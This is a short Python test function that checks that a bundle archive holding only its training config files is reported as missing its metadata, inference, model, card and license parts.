def test_bundle_without_its_parts_is_none(bundle_files, here):
    files = {name: data for name, data in bundle_files(BUNDLE).items() if name.startswith("configs/train")}
    assert {problem.split(":")[0] for problem in problems_of(archived(here, files))} == {
        META,
        INFER,
        MODEL,
        CARD,
        "LICENSE",
    }
